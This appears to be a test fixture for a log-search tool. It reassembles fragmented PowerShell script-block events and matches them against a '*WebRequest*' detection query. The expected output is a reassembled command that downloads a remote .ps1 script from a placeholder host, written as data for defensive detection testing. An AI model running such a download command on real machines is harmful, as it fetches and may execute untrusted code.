# parts in CSV: their names stand in the header only
--- query
* | where script_text matches "*WebRequest*" | fields host, EventRecordID, MessageNumber, script_text
--- input a.csv
TimeCreated,Channel,EventID,Computer,EventRecordID,MessageNumber,MessageTotal,ScriptBlockText,ScriptBlockId,Image
2026-11-24T10:00:01.000Z,Microsoft-Windows-PowerShell/Operational,4104,ws5.corp.example,11,1,3,Invoke-Web,b1,
2026-11-24T10:00:02.000Z,Microsoft-Windows-Sysmon/Operational,1,ws5.corp.example,12,,,,,C:\Windows\whoami.exe
2026-11-24T10:00:02.000Z,Microsoft-Windows-PowerShell/Operational,4104,ws6.corp.example,21,2,2,ject,b1,
2026-11-24T10:00:03.000Z,Microsoft-Windows-PowerShell/Operational,4104,ws5.corp.example,13,2,3,Request http://files,b1,
2026-11-24T10:00:04.000Z,Microsoft-Windows-PowerShell/Operational,4104,ws6.corp.example,22,1,2,Start-In,b1,
2026-11-24T10:00:05.000Z,Microsoft-Windows-PowerShell/Operational,4104,ws5.corp.example,14,1,1,whole,b2,
2026-11-24T10:00:06.000Z,Microsoft-Windows-PowerShell/Operational,4104,ws5.corp.example,15,3,3,.example/x.ps1,b1,
2026-11-24T10:00:07.000Z,Microsoft-Windows-Sysmon/Operational,1,ws6.corp.example,23,,,,,C:\Windows\curl.exe
--- output csv
host,EventRecordID,MessageNumber,script_text
ws5.corp.example,11,1,Invoke-WebRequest http://files.example/x.ps1
